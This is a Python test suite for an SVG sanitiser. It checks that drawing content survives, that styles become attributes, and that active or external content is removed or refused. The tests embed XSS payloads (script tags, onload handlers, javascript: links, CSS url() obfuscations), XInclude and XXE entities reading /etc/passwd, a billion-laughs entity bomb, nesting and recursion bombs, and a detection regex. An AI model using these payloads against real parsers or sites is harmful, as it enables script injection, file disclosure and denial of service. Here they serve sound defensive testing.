"""An SVG, cleaned: what draws stays, what could run, be fetched, move or tell does not, whatever is made up."""

from __future__ import annotations

import re
import time
from xml.etree import ElementTree

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bulletin.read.drawings import make_drawing
from bulletin.read.pictures import PictureError

HEAD = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xmlns:xi="http://www.w3.org/2001/XInclude" viewBox="0 0 40 20">'
)
SHAPE = '<path d="M0 0L10 10"/>'


def cleaned(inner: str, head: str = HEAD, before: str = "") -> str:
    picture, (data,) = make_drawing(f"{before}{head}{inner}</svg>".encode(), "k")
    ElementTree.fromstring(data)
    assert picture.variants[0].format == "svg"
    return data.decode()


def refused(data: str | bytes) -> str:
    with pytest.raises(PictureError) as error:
        make_drawing(data if isinstance(data, bytes) else data.encode(), "k")
    return error.value.reason


def test_a_drawing_stays_as_it_is() -> None:
    inner = (
        '<defs><linearGradient id="g" x1="0" x2="1"><stop offset="0" stop-color="#b01218"/></linearGradient>'
        '<clipPath id="c"><use xlink:href="#s" overflow="visible"/></clipPath><path id="s" d="M0 0h9v9z"/></defs>'
        '<g clip-path="url(#c)" transform="translate(1 2) rotate(45)"><path d="M1 1.5c-2,3 4e1,5 6-7z"/>'
        '<text x="1" y="2" font-family="SimSun,serif" font-size="3px">救助<tspan>站</tspan></text>'
        '<text><textPath xlink:href="#s" startOffset="50%">环形的字</textPath></text></g>'
    )
    made = cleaned(inner)
    assert inner in made
    assert 'viewBox="0 0 40 20" width="480" height="240"' in made


@pytest.mark.parametrize(
    ("inner", "shown"),
    [
        ('<path class="a b" d="M0 0"/>', 'stroke="blue" fill="url(#g)"'),
        ('<path class="b a" fill="red" d="M0 0"/>', '<path fill="url(#g)" d="M0 0" stroke="blue"/>'),
        ('<path class="a" style="fill:none;stroke:rgb(1,2,3) !important" d=""/>', 'stroke="rgb(1,2,3)" fill="none"'),
        ('<path id="i" class="a" d="M0 0"/>', 'fill="green"'),
        ('<rect class="a" width="1" height="1"/>', 'stroke="black" fill="url(#g)"'),
        ('<path class="dark" d="M0 0"/>', '<path d="M0 0" stroke="black"/>'),
        ("<text style=\"font: italic 700 9px/2 '楷体',serif\">字</text>", 'font-style="italic" font-weight="700"'),
        (
            "<text style=\"font: italic 700 9px/2 '楷体',serif\">字</text>",
            'font-size="9px" font-family="\'楷体\',serif"',
        ),
        ('<path style="transform:translate(1px, 2px) rotate(4deg)" d=""/>', 'transform="translate(1, 2) rotate(4)"'),
        ('<text style="white-space: pre-wrap">字  字</text>', 'xml:space="preserve">字  字</text>'),
        ('<text xml:space="preserve">字  字</text>', '<text xml:space="preserve" stroke="black">字  字</text>'),
        ('<rect style="x:1px;width:2px" height="3"/>', '<rect height="3" stroke="black" x="1px" width="2px"/>'),
        ('<mask id="m" style="mask-type:alpha"><path d="M0 0"/></mask><path d="M1 1"/>', ' mask-type="alpha"'),
    ],
)
def test_styles_become_attributes(inner: str, shown: str) -> None:
    """Servers forbid styles in a file; the strongest selector has the last word, as in a browser."""
    nothing = "{opacity:0} a,,b{opacity:0}"
    sheet = "*{stroke:black} .a{fill:red} .b{stroke:blue}/* x */.a,.c{fill:url(#g)} path#i{fill:green} g .a{fill:cyan}"
    media = "@media (prefers-color-scheme:dark){.dark{fill:white}}@charset 'x'; .d{fill:x}"
    made = cleaned(f"<style>{nothing}{sheet}{media}</style>{inner}")
    assert shown in made
    assert not re.search(r"opacity|<style| style=|class", made)


@pytest.mark.parametrize(
    ("inner", "missed"),
    [
        ("", []),
        ('<image href="a.png"/>', ["image"]),
        ('<defs><pattern id="p"><use href="#i"/></pattern><image id="i" href="data:image/png,"/></defs>', ["image"]),
        ("<foreignObject><p>字</p></foreignObject>", ["HTML"]),
        ('<path filter="url(#f)" d="M0 0"/><filter id="f"/>', ["effects"]),
        ('<filter id="f"/>', []),
        ('<path style="filter: blur(2px)" d=""/>', ["effects"]),
        ("<style>.a{filter:none;marker:none;mix-blend-mode:normal}</style>", []),
        ("<style>.a{fill:none;marker-end:url(#m)}</style>", ["arrows"]),
        ('<path d="M0 0"><animate attributeName="d"/></path>', ["animation"]),
        ("<style>@keyframes k{to{opacity:0}}</style>", []),
        ("<style>@keyframes k{to{opacity:0}} .a{animation:k 2s}</style>", ["animation"]),
        ('<g style="mix-blend-mode:multiply"/>', ["style"]),
        ("<style>g>.a{fill:red}</style>", ["style"]),
        ("<style>g>.a{cursor:pointer}</style>", []),
        ("<style>#a{.b{fill:red}}</style>", ["style"]),
        ("<style>.a{fill:red !important}</style>", ["style"]),
        ("<style>a:hover,path:hover{fill:red} @media print{.a{fill:red}}</style>", []),
        ("<style>@media (prefers-color-scheme:dark){.a{fill:red}}</style>", []),
        ("<style>@supports (fill:red){.a{fill:red}}</style>", ["style"]),
        ("<style>:root{--a:red} .a{fill:var(--a)}</style>", ["style"]),
        ('<path fill="url(https://e.example/a.svg#b)" d="M0 0"/>', ["style"]),
        ("<style>@font-face{font-family:x;src:url(data:font/woff2;base64,AA)}</style>", ["font-face"]),
        ('<style>@font-face{font-family:"宋体";src:url("#FontID0") format(svg)}</style>', []),
        ('<metadata><image href="a.png"/></metadata><path style="line-height:1.2;-inkscape-stroke:none" d=""/>', []),
        ('<switch><foreignObject requiredExtensions="ai"/><g><path d="M0 0"/></g><image/></switch>', []),
    ],
)
def test_what_was_seen_and_is_left_out_is_said(inner: str, missed: list[str]) -> None:
    picture, _ = make_drawing(f"{HEAD}{SHAPE}{inner}</svg>".encode(), "k")
    assert len(picture.left_out) == len(missed)
    assert all(word in said for word, said in zip(missed, picture.left_out, strict=True))


HOSTILE = {
    "a script": "<script>alert(1)</script>",
    "a script by address": '<script xlink:href="https://e.example/a.js"/>',
    "an event": '<path onload="alert(1)" onclick="alert(1)" d="M0 0"/>',
    "an event of the root": "",
    "a link that runs": '<a xlink:href="javascript:alert(1)"><path d="M1 1"/></a>',
    "a link": '<a href="https://e.example/"><path d="M1 1"/></a>',
    "a use of another file": '<use xlink:href="https://e.example/a.svg#b"/><use href="a.svg#b"/>',
    "a use of data": '<use href="data:image/svg+xml;base64,AAAA#b"/>',
    "a picture": '<image href="https://e.example/a.png"/><image xlink:href="/a.png"/>',
    "a picture in data": '<image href="data:image/png;base64,AAAA"/><image href="data:image/svg+xml,%3Csvg/%3E"/>',
    "a picture in a filter": '<filter id="f"><feImage href="https://e.example/x"/></filter>',
    "HTML": '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="//e.example"/></foreignObject>',
    "HTML inside": '<g><script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script></g>',
    "an import": "<style>@import url(https://e.example/a.css); .a{fill:red}</style>",
    "an import in words": "<style>@import 'https://e.example/a.css';</style>",
    "a font": "<style>@font-face{font-family:x;src:url(https://e.example/f)}</style>",
    "a style with an address": "<style>path{fill:url(https://e.example/b);cursor:url(//e.example/x),auto}</style>",
    "a style with an escape": "<style>path{fill:\\75rl(https://e.example/b)}</style>",
    "a style with a comment": "<style>path{fill:u/**/rl(//e.example/b);fill:url/**/(//e.example)}</style>",
    "a style with a set of pictures": "<style>path{mask:image-set('//e.example/a' 1x)}</style>",
    "a style with a word in between": "<style>path{fill:ururl(#a)l(//e.example)}</style>",
    "a style of one element": '<path style="fill:url(//e.example);background:url(//e.example)" d="M1 1"/>',
    "an attribute with an address": '<path fill="url(https://e.example/#a)" mask="url(//e.example/m#a)" d="M1 1"/>',
    "a variable": '<path style="--a:url(//e.example);fill:var(--a)" d="M1 1"/>',
    "a base": '<g xml:base="https://e.example/"><path d="M1 1"/></g>',
    "an animation": '<path d="M1 1"><set attributeName="href" to="javascript:1"/><animate attributeName="d"/></path>',
    "moving on hover": "<style>path:hover{fill:red} @keyframes a{from{fill:red}}</style>",
    "XInclude": '<xi:include href="file:///etc/passwd"/>',
    "who drew it": '<metadata><creator xmlns="http://purl.org/dc/elements/1.1/">alert 张三</creator></metadata>',
    "a title and a comment": "<title>alert</title><desc>alert</desc><!-- alert -->",
    "an instruction": '<?xml-stylesheet href="https://e.example/a.css"?>',
    "sounds and films": '<video src="//e.example"/><audio href="//e.example"/>',
    "an end of its own": "<style><![CDATA[</style><script>alert(1)</script>]]></style>",
}
FORBIDDEN = re.compile(
    r"script|alert|\bon[a-z]+=|e\.example|//(?!www\.w3\.org)|data:|javascript|[@\\]|image|iframe|animate|<set|xml:base|hover"
)


@pytest.mark.parametrize("inner", HOSTILE.values(), ids=HOSTILE)
def test_what_could_run_or_be_fetched_is_not_in_it(inner: str) -> None:
    before = '<?xml version="1.0"?><?xml-stylesheet href="//e.example/a.css"?><!-- alert -->'
    made = cleaned(inner + SHAPE, HEAD.replace("<svg ", '<svg onload="alert(1)" '), before)
    assert not FORBIDDEN.search(made), made
    assert SHAPE in made


@pytest.mark.parametrize(
    "inner", ["<script>1</script>", '<image href="data:image/png;base64,AAAA"/>', "<defs><path d='M0 0'/></defs>", ""]
)
def test_what_has_nothing_to_draw_is_refused(inner: str) -> None:
    assert "nothing of it is a drawing" in refused(f"{HEAD}{inner}</svg>")


BOMB = "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12))


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (f"<!DOCTYPE svg [<!ENTITY a0 'aaa'>{BOMB}]>{HEAD}<text>&a11;</text></svg>", "defines entities"),
        (f"<!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>{HEAD}<text>&x;</text></svg>", "defines entities"),
        (f"<!DOCTYPE svg [<!ENTITY % x SYSTEM 'http://e.example/x'>%x;]>{HEAD}{SHAPE}</svg>", "defines entities"),
        (f"<!DOCTYPE svg SYSTEM 'http://e.example/x.dtd'>{HEAD}<text>&x;</text></svg>", "defines entities"),
        (f"{HEAD}<text>&x;</text></svg>", "damaged"),
        (f"{HEAD}{'<g>' * 20_000}{'</g>' * 20_000}</svg>", "deeply nested"),
        (f"{HEAD}<metadata>{'<a>' * 90_000}", "deeply nested"),
        (f"{HEAD}{SHAPE * 30_000}</svg>", "repeats too much"),
        (f"{HEAD}<text>{'长' * 150_000}</text></svg>", "too large"),
        (f"{HEAD}{SHAPE}</svg>" + " " * 2_000_000, "too large"),
        (f"{HEAD}<path fill='{'a' * 1_900_000}'/></svg>", "too large"),
        (f"{HEAD}<path style='fill:{' ' * 1_000_000}!'/><text>{'长' * 150_000}</text></svg>", "too large"),
        ("", "empty"),
        (f"<?xml version='1.0' encoding='gbk'?>{HEAD}<text>救</text></svg>", "encoding"),
        (f"<?xml version='1.0' encoding='shift_jis'?>{HEAD}<text>救</text></svg>", "encoding"),
        (b"\x1f\x8b\x08\x00svgz", "damaged"),
        (b"\x89PNG\r\n\x1a\n", "damaged"),
        ("<html><body/></html>", "nothing of it is a drawing"),
        ('<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>', "neither a “viewBox”"),
        ('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 0 9"><path d="M0 0"/></svg>', "neither a “viewBox”"),
        (
            '<svg xmlns="http://www.w3.org/2000/svg" width="100%" height="9"><path d="M0 0"/></svg>',
            "neither a “viewBox”",
        ),
        (
            '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 nan 1e999"><path d="M0 0"/></svg>',
            "neither a “viewBox”",
        ),
    ],
)
def test_what_cannot_be_used_is_refused_at_once(data: str | bytes, reason: str) -> None:
    began = time.process_time()
    assert reason in refused(data)
    assert time.process_time() - began < 2


def nested(count: int, ways: int, reference: str) -> str:
    parts = [f'<g id="n0">{SHAPE}</g>']
    parts += [f'<g id="n{n}">{reference.format(n - 1) * ways}</g>' for n in range(1, count + 1)]
    return f'{HEAD}<defs>{"".join(parts)}</defs><use href="#n{count}"/></svg>'


@pytest.mark.parametrize(
    "data",
    [
        nested(4, 20, '<use href="#n{}"/>'),
        nested(12, 2, '<use href="#n{}"/>'),
        f'{HEAD}<g id="a"><use href="#a"/>{SHAPE}</g></svg>',
        f'{HEAD}<pattern id="p"><rect fill="url(#q)"/></pattern><pattern id="q"><rect fill="url(#p)"/></pattern>'
        f'<rect fill="url(#p)"/></svg>',
        f"{HEAD}<style>.a{{fill:url(#p)}}</style><pattern id='p'><rect class='a'/></pattern><rect class='a'/></svg>",
    ],
)
def test_what_is_drawn_without_end_is_refused(data: str) -> None:
    assert "repeats too much" in refused(data)


def test_what_programs_write_is_read() -> None:
    """Illustrator puts all into a switch and clips by class, Inkscape adds its own, Word measures in points."""
    illustrator = (
        '<switch><foreignObject width="1" height="1"/><g><defs><clipPath id="c"><rect class="b" width="9" height="9"/>'
        "</clipPath></defs><style type='text/css'> .a{clip-path:url(#c);} .b{fill:none;} </style>"
        '<g class="a"><path d="M0 0"/></g></g></switch>'
    )
    doctype = '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
    assert '<g clip-path="url(#c)"><path d="M0 0"/></g>' in cleaned(illustrator, before=doctype)
    inkscape = (
        '<svg:svg xmlns:svg="http://www.w3.org/2000/svg" width="10mm" height="5mm"><svg:g><svg:path d="M0 0"/></svg:g>'
        "</svg:svg>"
    )
    picture, (data,) = make_drawing(inkscape.encode("utf-16"), "k")
    assert (picture.width, picture.height) == (480, 240)
    assert b'viewBox="0 0 37.7952756 18.8976378"' in data


@pytest.mark.parametrize("encoding", ["gbk", "GB2312", "gb18030", "big5", "utf-16", "utf-8-sig", "iso-8859-1"])
def test_letters_in_every_encoding_that_programs_write(encoding: str) -> None:
    word = "café" if encoding == "iso-8859-1" else "救助"
    declared = encoding.removesuffix("-sig")
    data = f'<?xml version="1.0" encoding="{declared}"?>{HEAD}<text>{word}</text></svg>'.encode(encoding, "replace")
    _, (made,) = make_drawing(data, "k")
    assert f"<text>{word}</text>" in made.decode()


def test_of_a_switch_the_first_is_drawn_that_readers_can_see() -> None:
    inner = (
        '<switch><text systemLanguage="en">A</text><text systemLanguage="fr, zh-CN">B</text><text>C</text></switch>'
        '<text systemLanguage="en">D</text><text><a href="https://e.example/"><tspan>E</tspan></a></text>'
    )
    made = cleaned(inner)
    assert re.findall(">([A-Z])<", made) == ["B", "E"]
    assert "<text><tspan><tspan>E" in made


def test_the_width_of_a_page_is_not_that_of_the_drawing() -> None:
    """Which is often in the root's style, where the drawing was inside of a page."""
    head = HEAD.replace('viewBox="0 0 40 20"', 'width="40" height="20" style="width:100%;height:auto"')
    assert 'width="480" height="240" viewBox="0 0 40 20"' in cleaned(SHAPE, head)


def test_the_same_bytes_give_the_same_name_and_bytes() -> None:
    assert make_drawing(f"{HEAD}{SHAPE}</svg>".encode(), "k") == make_drawing(f"{HEAD}{SHAPE}</svg>".encode(), "k")


PIECES = st.sampled_from(
    [*HOSTILE.values(), "<g>", "</g>", "<style>", "</style>", "<![CDATA[", "]]>", "/*", "*/", "{", "}", "url(", ")"]
)


@given(st.lists(PIECES | st.text(max_size=6), max_size=8).map("".join))
def test_whatever_is_put_together_nothing_of_it_runs(inner: str) -> None:
    try:
        _, (data,) = make_drawing(f"{HEAD}{SHAPE}{inner}</svg>".encode("utf-8", "replace"), "k")
    except PictureError:
        return
    for element in ElementTree.fromstring(data).iter():
        assert re.fullmatch(
            r"\{http://www\.w3\.org/2000/svg\}(?:svg|g|defs|path|text|tspan|use|\w*Gradient|stop|rect|clipPath)",
            element.tag,
        )
        for name, value in element.attrib.items():
            assert not re.search(r"on[a-z]+|base|src", name) or name == "points"
            assert not re.search(r"//|data:|javascript|[@\\]", value)
